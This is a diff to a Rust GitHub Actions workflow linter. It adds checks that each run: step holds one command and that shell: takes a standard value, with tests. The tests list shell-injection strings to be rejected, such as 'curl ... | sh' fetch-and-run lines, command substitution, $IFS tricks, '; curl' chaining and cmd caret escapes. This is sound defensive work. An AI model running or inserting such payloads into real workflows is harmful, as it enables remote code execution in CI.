@@ -8,6 +8,11 @@
 //!   set-up line from [`SETUP_COMMANDS`]; the logic lives in xtask, where it is tested.
 //! - **no expressions in run**: no `${{ … }}` inside `run:` (a value that may come from a
 //!   user reaches the shell through `env:` instead).
+//! - **one command per run**: no command substitution (`$(`, backticks), no `$IFS`, no
+//!   `;` `|` `&` `<` `>` `(` `)` outside quotes, no escapes (backslash; caret under cmd),
+//!   no unclosed or typographic quotes, no control characters.
+//! - **standard shells**: every `shell:` (a step's, a job's or the workflow's
+//!   `defaults.run.shell`) is one of [`SHELLS`].
 //! - **bounded files**: a workflow file over [`MAX_WORKFLOW_BYTES`] is refused unread.
 //! - **no persisted credentials**: `actions/checkout` runs with `persist-credentials: false`.
 //! - **concurrency**: the workflow sets `concurrency` (at the top, or on every job); a
@@ -31,6 +36,10 @@ pub const SETUP_COMMANDS: [&str; 5] = [
     "cargo build ",
     "rustup ",
 ];
+
+/// The values `shell:` may take: GitHub's own shells. A custom one (`bash -e {0}`,
+/// `sh -c '...' {0}`) is a command line of its own around every step.
+pub const SHELLS: [&str; 6] = ["bash", "sh", "pwsh", "python", "cmd", "powershell"];
 
 /// The write scopes a job may hold, and the steps that need each: an action (by
 /// `owner/repo`) or a `cargo xtask` task line prefix (`release ` is the whole release,
@@ -336,6 +345,9 @@ impl Workflow {
 
     fn check_workflow_level(&self, findings: &mut Vec<Finding>) {
         let top = &self.root;
+        if let Some(shell) = default_shell(top) {
+            self.check_shell(shell, None, None, "defaults.run.shell", findings);
+        }
         match top.data.as_mapping_get("permissions") {
             None => findings.push(self.finding(
                 1,
@@ -378,6 +390,11 @@ impl Workflow {
         if let Some(uses) = job.data.as_mapping_get("uses") {
             self.check_uses(uses, job_id, None, findings);
         }
+        let job_shell = default_shell(job);
+        if let Some(shell) = job_shell {
+            self.check_shell(shell, Some(job_id), None, "defaults.run.shell", findings);
+        }
+        let job_shell = job_shell.or_else(|| default_shell(&self.root));
         let mut needs: Vec<String> = Vec::new();
         for (label, step) in steps(job) {
             if let Some(uses) = step.data.as_mapping_get("uses") {
@@ -400,10 +417,18 @@ impl Workflow {
                     }
                 }
             }
+            let step_shell = step.data.as_mapping_get("shell");
+            if let Some(shell) = step_shell {
+                self.check_shell(shell, Some(job_id), Some(&label), "shell", findings);
+            }
             if let Some(run) = step.data.as_mapping_get("run") {
                 let command = run.data.as_str().unwrap_or_default();
                 needs.push(command.trim().to_owned());
-                if let Some(message) = run_problem(command) {
+                let quoting = match step_shell.or(job_shell).map(scalar_text).as_deref() {
+                    Some("cmd") => Quoting::Cmd,
+                    _ => Quoting::Posix,
+                };
+                if let Some(message) = run_problem(command, quoting) {
                     findings.push(self.finding(
                         run.span.start.line(),
                         Some(job_id),
@@ -439,6 +464,29 @@ impl Workflow {
                     ));
                 }
             }
+        }
+    }
+
+    /// A `shell:` (`key` names where it is) must be one of [`SHELLS`].
+    fn check_shell(
+        &self,
+        shell: &Node,
+        job: Option<&str>,
+        step: Option<&str>,
+        key: &str,
+        findings: &mut Vec<Finding>,
+    ) {
+        let value = scalar_text(shell);
+        if !SHELLS.contains(&value.as_str()) {
+            findings.push(self.finding(
+                shell.span.start.line(),
+                job,
+                step,
+                format!(
+                    "{key}: `{value}` is not one of {}: a custom shell runs the step through a command line of its own",
+                    SHELLS.join(", ")
+                ),
+            ));
         }
     }
 
@@ -493,14 +541,90 @@ impl Workflow {
     }
 }
 
+/// `defaults.run.shell` of a workflow or a job.
+fn default_shell(node: &Node) -> Option<&Node> {
+    node.data
+        .as_mapping_get("defaults")?
+        .data
+        .as_mapping_get("run")?
+        .data
+        .as_mapping_get("shell")
+}
+
+/// How a step's shell quotes: cmd knows double quotes only; bash, sh, PowerShell (and
+/// the default, bash or pwsh by runner) single and double quotes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Quoting {
+    Posix,
+    Cmd,
+}
+
+/// What in a one-line `run:` could make the shell run anything but the one command it
+/// starts with, each kind once, in the order found. Checked for every shell at once
+/// where they differ: escapes (backslash, backtick, caret) are refused rather than
+/// interpreted, and so is anything PowerShell reads as a quote.
+fn shell_problems(command: &str, quoting: Quoting) -> Vec<String> {
+    let mut problems: Vec<String> = Vec::new();
+    let mut add = |problem: String| {
+        if !problems.contains(&problem) {
+            problems.push(problem);
+        }
+    };
+    // Wherever they are: inside quotes too, the shell or PowerShell runs them.
+    if command.contains("$(") {
+        add("`$(` (command substitution)".into());
+    }
+    if command.contains('`') {
+        add("a backtick (command substitution, or PowerShell's escape)".into());
+    }
+    if command.contains("$IFS") || command.contains("${IFS") {
+        add("`$IFS` (a separator the shell makes from a variable)".into());
+    }
+    if command.contains([
+        '\u{2018}', '\u{2019}', '\u{201a}', '\u{201b}', '\u{201c}', '\u{201d}', '\u{201e}',
+    ]) {
+        add("a typographic quote (PowerShell reads it as a quote)".into());
+    }
+    if command.chars().any(|c| c.is_control() && c != '\t') {
+        add("a control character".into());
+    }
+    let mut quote = None;
+    for c in command.chars() {
+        match (quote, c) {
+            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
+            (Some('"'), '\\') => add("a backslash (shells escape differently)".into()),
+            (Some(_), _) => {}
+            (None, '\'') if quoting == Quoting::Posix => quote = Some(c),
+            (None, '"') => quote = Some(c),
+            (None, ';' | '|' | '&' | '<' | '>' | '(' | ')') => {
+                add(format!("`{c}` outside quotes"));
+            }
+            (None, '\\') => add("a backslash (shells escape differently)".into()),
+            (None, '^') if quoting == Quoting::Cmd => add("a caret (cmd's escape)".into()),
+            (None, _) => {}
+        }
+    }
+    if quote.is_some() {
+        add("an unclosed quote".into());
+    }
+    problems
+}
+
 /// What is wrong with a `run:` command, if anything.
-fn run_problem(command: &str) -> Option<String> {
+fn run_problem(command: &str, quoting: Quoting) -> Option<String> {
     let command = command.trim();
     if command.contains("${{") {
         return Some("`${{ }}` inside run: pass the value through `env:` and use the variable, so that no input is pasted into the shell".into());
     }
     if command.lines().count() > 1 {
         return Some("a multi-line script: put the logic in a cargo xtask task, where it is tested; a step runs one command".into());
+    }
+    let problems = shell_problems(command, quoting);
+    if !problems.is_empty() {
+        return Some(format!(
+            "`{command}` holds {}: a step runs one command: pass values through `env:` and quote them (\"$NAME\")",
+            problems.join(", ")
+        ));
     }
     let allowed = command.starts_with("cargo xtask ")
         || SETUP_COMMANDS
@@ -845,6 +969,148 @@ jobs:
                 "ci.yml:16: job gate, step Gate: `deno task ci` is neither a cargo xtask call nor a set-up line (cargo fmt, cargo clippy, cargo test, cargo build, rustup): do the work in a task"
             ]
         );
+    }
+
+    /// The message of the one finding of `GOOD` with `run: cargo xtask ci` made `run`.
+    fn run_finding(run: &str) -> String {
+        let found = check(&with("run: cargo xtask ci", &format!("run: {run}")));
+        assert_eq!(found.len(), 1, "{run}: {found:#?}");
+        found[0]
+            .strip_prefix("ci.yml:16: job gate, step Gate: ")
+            .unwrap_or_else(|| panic!("{}", found[0]))
+            .to_owned()
+    }
+
+    #[test]
+    fn run_steps_run_one_command_whatever_the_quoting() {
+        let finding =
+            run_finding(r#"cargo xtask coverage --base "$(curl -s https://x.invalid | sh)""#);
+        assert!(finding.contains("`$(` (command substitution)"), "{finding}");
+        for (run, what) in [
+            ("cargo xtask ci `id`", "a backtick"),
+            ("cargo xtask ci \"`id`\"", "a backtick"),
+            ("cargo xtask ci $(id)", "`$(` (command substitution)"),
+            ("cargo xtask ci '$(id)'", "`$(` (command substitution)"),
+            ("cargo xtask ci $((1+1))", "`$(` (command substitution)"),
+            ("cargo xtask ci$IFS-x", "`$IFS`"),
+            ("cargo xtask ci${IFS}-x", "`$IFS`"),
+            ("cargo xtask ci \"${IFS}\"", "`$IFS`"),
+            ("cargo xtask ci; curl x.invalid", "`;` outside quotes"),
+            ("cargo xtask ci && curl x.invalid", "`&` outside quotes"),
+            ("cargo xtask ci & curl x.invalid", "`&` outside quotes"),
+            ("cargo xtask ci | sh", "`|` outside quotes"),
+            ("cargo xtask ci || sh", "`|` outside quotes"),
+            ("cargo xtask ci \"a\";id", "`;` outside quotes"),
+            ("cargo xtask ci > $GITHUB_ENV", "`>` outside quotes"),
+            ("cargo xtask ci < /dev/null", "`<` outside quotes"),
+            ("cargo xtask ci <(curl x.invalid)", "`<` outside quotes"),
+            ("cargo xtask ci (iex x)", "`(` outside quotes"),
+            ("cargo xtask ci \\; id", "a backslash"),
+            ("cargo xtask ci \"\\\"; id; \\\"\"", "a backslash"),
+            ("cargo xtask ci \"unclosed", "an unclosed quote"),
+            ("cargo xtask ci 'unclosed", "an unclosed quote"),
+            ("cargo xtask ci \u{2018}; id\u{2019}", "a typographic quote"),
+            (
+                "cargo xtask ci '\u{2018} ; id ; \u{2018}'",
+                "a typographic quote",
+            ),
+            ("cargo xtask ci\u{7}x", "a control character"),
+        ] {
+            // Single-quoted in the YAML, so that the run line is exactly `run`.
+            let finding = run_finding(&format!("'{}'", run.replace('\'', "''")));
+            assert!(finding.contains(what), "{run}: {finding}");
+            assert!(
+                finding.ends_with(
+                    "a step runs one command: pass values through `env:` and quote them (\"$NAME\")"
+                ),
+                "{run}: {finding}"
+            );
+        }
+        // What the shell only passes on as arguments.
+        for run in [
+            "cargo xtask release \"$VERSION\" --ref \"${REF}\"",
+            "cargo xtask ci 'a;b|c&d' \"e;f|g&h>i<j(k)\"",
+            "cargo xtask release publish dist --ref \"$COMMIT\" # zizmor: ignore[use-trusted-publishing]",
+            "cargo clippy --workspace --all-targets --locked -- -D warnings",
+        ] {
+            assert_eq!(
+                check(&with(
+                    "run: cargo xtask ci",
+                    &format!("run: '{}'", run.replace('\'', "''"))
+                )),
+                Vec::<String>::new(),
+                "{run}"
+            );
+        }
+    }
+
+    #[test]
+    fn cmd_reads_single_quotes_as_plain_characters() {
+        let step = "      - name: Gate\n        run: cargo xtask ci\n";
+        let found = check(&with(
+            step,
+            "      - name: Gate\n        shell: cmd\n        run: cargo xtask ci '& calc &'\n",
+        ));
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert!(found[0].contains("`&` outside quotes"), "{}", found[0]);
+        let found = check(&with(
+            step,
+            "      - name: Gate\n        shell: cmd\n        run: cargo xtask ci ^\" ^& calc\n",
+        ));
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert!(found[0].contains("a caret"), "{}", found[0]);
+    }
+
+    #[test]
+    fn only_the_standard_shells() {
+        let custom = "\"sh -c 'curl -s https://x.invalid | sh' {0}\"";
+        let refused = "is not one of bash, sh, pwsh, python, cmd, powershell: a custom shell \
+                       runs the step through a command line of its own";
+        assert_eq!(
+            check(&with(
+                "      - name: Gate\n",
+                &format!("      - name: Gate\n        shell: {custom}\n")
+            )),
+            [format!(
+                "ci.yml:16: job gate, step Gate: shell: `sh -c 'curl -s https://x.invalid | sh' {{0}}` {refused}"
+            )]
+        );
+        assert_eq!(
+            check(&with(
+                "    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout",
+                &format!(
+                    "    runs-on: ubuntu-24.04\n    defaults:\n      run:\n        shell: {custom}\n    steps:\n      - uses: actions/checkout"
+                )
+            )),
+            [format!(
+                "ci.yml:13: job gate: defaults.run.shell: `sh -c 'curl -s https://x.invalid | sh' {{0}}` {refused}"
+            )]
+        );
+        assert_eq!(
+            check(&with(
+                "jobs:\n",
+                "defaults:\n  run:\n    shell: bash -e {0}\njobs:\n"
+            )),
+            [format!(
+                "ci.yml:9: defaults.run.shell: `bash -e {{0}}` {refused}"
+            )]
+        );
+        for shell in ["bash", "sh", "pwsh", "python", "cmd", "powershell"] {
+            assert_eq!(
+                check(&with(
+                    "      - name: Gate\n",
+                    &format!("      - name: Gate\n        shell: {shell}\n")
+                )),
+                Vec::<String>::new(),
+                "{shell}"
+            );
+        }
+        let expression = check(&with(
+            "      - name: Gate\n",
+            "      - name: Gate\n        shell: ${{ inputs.shell }}\n",
+        ));
+        assert_eq!(expression.len(), 1, "{expression:#?}");
+        assert!(expression[0].contains(refused), "{}", expression[0]);
     }
 
     #[test]
